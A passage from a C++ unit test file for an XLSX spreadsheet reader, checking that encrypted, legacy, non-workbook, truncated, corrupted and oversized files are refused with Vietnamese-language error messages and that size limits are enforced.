  // "EncryptionInfo" stream; an Excel 97–2003 .xls is an OLE file without one.
  std::string ole("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
  ole += std::string(504, '\0');
  std::string name;
  for (char c : std::string("EncryptionInfo")) name += std::string(1, c) + '\0';
  auto r = read_xlsx_sheet(ole + name + std::string(100, '\0'));
  EXPECT_TRUE(refused(r, "xlsx.encrypted")) << errors(r.problems);
  EXPECT_NE(r.problems[0].vi.find("mật khẩu"), std::string::npos);
  r = read_xlsx_sheet(ole + std::string(1000, '\0'));
  EXPECT_TRUE(refused(r, "xlsx.xls")) << errors(r.problems);
  EXPECT_TRUE(cds::zip::looks_like_workbook(ole) && !cds::zip::looks_like_workbook("Mã đơn vị [unit];X\r\n"));
  // A ZIP entry encrypted with the ZIP's own (traditional) scheme.
  Book b;
  b.sheet_data = "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>";
  auto p = parts(b);
  p.back().flags = 1;
  r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.encrypted")) << errors(r.problems);
  // Not a ZIP; a ZIP that is not a workbook (a dossier); an OpenDocument spreadsheet.
  r = read_xlsx_sheet("Mã đơn vị [unit];X [3/ty_le]\r\n");
  EXPECT_TRUE(refused(r, "xlsx.not_xlsx")) << errors(r.problems);
  r = read_xlsx_sheet(hand_zip({{"submission.json", "{}"}, {"evidence/a.pdf", "%PDF"}}));
  EXPECT_TRUE(refused(r, "xlsx.not_xlsx")) << errors(r.problems);
  r = read_xlsx_sheet(hand_zip({{"mimetype", "application/vnd.oasis.opendocument.spreadsheet", false}, {"content.xml", "<x/>"}}));
  EXPECT_TRUE(refused(r, "xlsx.ods")) << errors(r.problems);
}

TEST(XlsxRead, DamagedFiles) {
  Book b;
  b.shared = "<si><t>a</t></si>";
  b.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>";
  std::string good = xlsx(b);
  ASSERT_TRUE(read_xlsx_sheet(good).sheet);
  // Cut short anywhere: never a crash, always a reason.
  for (size_t cut : {size_t(4), size_t(30), good.size() / 3, good.size() / 2, good.size() - 30, good.size() - 25}) {
    auto r = read_xlsx_sheet(good.substr(0, cut));
    EXPECT_FALSE(r.sheet) << cut;
    ASSERT_FALSE(r.problems.empty()) << cut;
    EXPECT_TRUE(r.problems[0].code == "xlsx.damaged" || r.problems[0].code == "xlsx.not_xlsx") << cut << " " << errors(r.problems);
  }
  // One byte changed inside a deflated part: the CRC or the inflation fails.
  std::string flipped = good;
  flipped[flipped.find("xl/worksheets/sheet1.xml") + 30] ^= 0x55;
  EXPECT_FALSE(read_xlsx_sheet(flipped).sheet);
  // XML that is not well formed, a shared string that does not exist, a worksheet part missing,
  // the workbook's relationships missing, XML nested without end, no worksheet at all.
  Book x = b;
  x.sheet_data = "<row r=\"1\"><c r=\"A1\"><v>1</v></row>";
  auto r = read_xlsx_sheet(xlsx(x));
  EXPECT_TRUE(refused(r, "xlsx.xml")) << errors(r.problems);
  EXPECT_NE(r.problems[0].vi.find("dòng"), std::string::npos);
  x = b;
  x.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>7</v></c></row>";
  r = read_xlsx_sheet(xlsx(x));
  EXPECT_TRUE(refused(r, "xlsx.damaged")) << errors(r.problems);
  auto p = parts(b);
  p.erase(std::remove_if(p.begin(), p.end(), [](const Entry& e) { return e.name == "xl/worksheets/sheet1.xml"; }), p.end());
  r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.damaged")) << errors(r.problems);
  p = parts(b);
  p.erase(std::remove_if(p.begin(), p.end(), [](const Entry& e) { return e.name == "xl/_rels/workbook.xml.rels"; }), p.end());
  r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.damaged")) << errors(r.problems);
  x = b;
  x.sheet_data.clear();
  for (int i = 0; i < 100; ++i) x.sheet_data += "<is>";
  r = read_xlsx_sheet(xlsx(x));
  EXPECT_TRUE(refused(r, "xlsx.xml")) << errors(r.problems);
  // Well-formed but strange nesting (found by the xlsx fuzz target: a <si> inside a <t> once left
  // the text pointing into the grown string table): read without harm.
  x = b;
  x.shared = "<si><t>a<si><t>b</t></si>c</t></si>";
  x.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>1</v></c><c r=\"C1\"><v>5</v><c r=\"D1\"><v>7</v></c></c></row>";
  r = read_xlsx_sheet(xlsx(x));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->rows[0].cells, (std::vector<std::string>{"a", "b", "", "7"}));  // C1, holding D1, is lost
  p = parts(b);
  for (auto& e : p)
    if (e.name == "xl/workbook.xml") e.data = "<workbook xmlns=\"" + std::string(kMain) + "\"><sheets/></workbook>";
  r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.no_sheet")) << errors(r.problems);
}

TEST(XlsxRead, Limits) {
  // 20,000 units and the header: read; one more row: refused (kFigureTableMaxRows).
  auto rows = [](size_t n) {
    std::string s;
    for (size_t i = 1; i <= n; ++i) s += "<row r=\"" + std::to_string(i) + "\"><c r=\"A" + std::to_string(i) + "\"><v>" + std::to_string(i) + "</v></c></row>";
    return s;
  };
  Book b;
  b.sheet_data = rows(cds::kFigureTableMaxRows + 1);
  auto r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->rows.size(), cds::kFigureTableMaxRows + 1);
  b.sheet_data = rows(cds::kFigureTableMaxRows + 2);
  r = read_xlsx_sheet(xlsx(b));
  EXPECT_TRUE(refused(r, "xlsx.too_many_rows")) << errors(r.problems);
  // A value in column 400 (OJ) is read; in column 401 (OK), refused (kFigureTableMaxColumns) and
  // named; an empty styled cell far right is not a value.
  b.sheet_data = "<row r=\"1\"><c r=\"OJ1\"><v>1</v></c><c r=\"XFD1\" s=\"0\"/></row>";
  r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->rows[0].cells.size(), cds::kFigureTableMaxColumns);
  b.sheet_data = "<row r=\"1\"><c r=\"OK1\"><v>1</v></c></row>";
  r = read_xlsx_sheet(xlsx(b));
  EXPECT_TRUE(refused(r, "xlsx.too_many_columns")) << errors(r.problems);
  EXPECT_EQ(r.problems[0].where, "OK1");
  // A cell's text past its bound; all text past its bound; too many shared strings; too many cells.
  XlsxLimits lim;
  lim.cell_bytes = 10;
  b.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + std::string(11, 'x') + "</t></is></c></row>";
  r = read_xlsx_sheet(xlsx(b), lim);
  EXPECT_TRUE(refused(r, "xlsx.cell_too_long")) << errors(r.problems);
  lim = XlsxLimits{};
  lim.text_bytes = 1000;
  b.shared = "<si><t>" + std::string(600, 'y') + "</t></si>";
  b.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>0</v></c></row>";
  r = read_xlsx_sheet(xlsx(b), lim);
  EXPECT_TRUE(refused(r, "xlsx.too_large")) << errors(r.problems);
  lim = XlsxLimits{};
  lim.shared_strings = 2;
  b.shared = "<si><t>1</t></si><si><t>2</t></si><si><t>3</t></si>";
  r = read_xlsx_sheet(xlsx(b), lim);
  EXPECT_TRUE(refused(r, "xlsx.shared_strings")) << errors(r.problems);
  lim = XlsxLimits{};
  lim.cells = 100;
  b.shared.clear();
  b.sheet_data = rows(60);
  b.sheet_data += "<row r=\"70\"><c r=\"OJ70\"><v>1</v></c></row>";  // 400 cells held for one value
  r = read_xlsx_sheet(xlsx(b), lim);
  EXPECT_TRUE(refused(r, "xlsx.too_large")) << errors(r.problems);
}

}  // namespace
